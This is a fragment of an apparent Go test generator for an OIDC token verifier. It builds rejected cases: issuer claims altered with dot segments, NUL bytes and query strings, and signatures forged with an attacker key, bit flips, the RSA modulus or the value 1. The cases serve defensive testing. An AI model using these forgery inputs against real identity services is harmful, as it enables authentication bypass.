		{"iss with dot segment", scheme + "://" + host + "/realms/x/../" + path[len("realms/"):], oidc.ErrWrongIssuer},
		{"iss with trailing space", iss + " ", oidc.ErrWrongIssuer},
		{"iss with NUL", iss + "\x00", oidc.ErrWrongIssuer},
		{"iss with query", iss + "?x=1", oidc.ErrWrongIssuer},
		{"iss empty", "", oidc.ErrWrongIssuer},
		{"iss missing", nil, oidc.ErrWrongIssuer},
		{"iss array", []string{iss}, oidc.ErrMalformed},
		{"iss number", 1, oidc.ErrMalformed},
	} {
		if c.iss == iss {
			continue // this issuer has no such variant (an IP host, plain http)
		}
		g.bad(c.name, g.with(map[string]any{"iss": c.iss}), c.want)
	}
	// Another realm of the same server, its own key under the same kid.
	g.bad("other realm, its own key, the same kid",
		SignWith(g.m.Attacker, g.hdr, g.m.Payload(map[string]any{"iss": otherRealm})), oidc.ErrBadSignature)
	// Realms sharing a key (an imported key, a copied realm): iss decides.
	g.bad("other realm signed with the shared key", g.with(map[string]any{"iss": otherRealm}), oidc.ErrWrongIssuer)
	return nil
}

func (g *gen) signatures() error {
	h, p, s := g.parts[0], g.parts[1], g.parts[2]
	sig := mustDecode(s)
	flipped := append([]byte(nil), sig...)
	flipped[len(flipped)-1] ^= 1
	g.bad("signature of zeros", h+"."+p+"."+Enc(make([]byte, len(sig))), oidc.ErrBadSignature)
	g.bad("signature one bit flipped", h+"."+p+"."+Enc(flipped), oidc.ErrBadSignature)
	g.bad("signature truncated", h+"."+p+"."+s[:40], oidc.ErrBadSignature)
	g.bad("signature with a leading zero byte", h+"."+p+"."+Enc(append([]byte{0}, sig...)), oidc.ErrBadSignature)
	g.bad("signature empty", h+"."+p+".", oidc.ErrMalformed)
	g.bad("signature of another payload", h+"."+Enc([]byte(g.m.Payload(map[string]any{"sub": "admin"})))+"."+s, oidc.ErrBadSignature)
	g.bad("signature by the attacker", SignWith(g.m.Attacker, g.hdr, g.payload), oidc.ErrBadSignature)
	g.bad("signature over the header only", h+"."+p+"."+strings.Split(SignInput(g.m.Key, h), ".")[1], oidc.ErrBadSignature)
	n := new(big.Int).Set(g.m.Key.N)
	g.bad("signature equal to the modulus", h+"."+p+"."+Enc(n.Bytes()), oidc.ErrBadSignature)
	g.bad("signature of 1", h+"."+p+"."+Enc(new(big.Int).SetInt64(1).FillBytes(make([]byte, len(sig)))), oidc.ErrBadSignature)
	return nil
}
